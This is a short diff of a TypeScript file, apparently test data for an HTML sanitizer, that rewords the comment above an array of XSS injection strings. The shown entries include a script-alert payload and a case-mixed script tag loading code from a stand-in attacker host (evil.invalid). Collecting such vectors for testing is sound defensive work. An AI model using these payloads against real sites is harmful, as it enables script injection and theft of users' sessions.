@@ -1,4 +1,4 @@
-/** Ways to smuggle a script in, in our own words: one for each kind of hole. */
+/** Our own HTML injection vectors, one per kind of hole. */
 export const markupVectors: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.invalid/x.js></sCrIpT>',
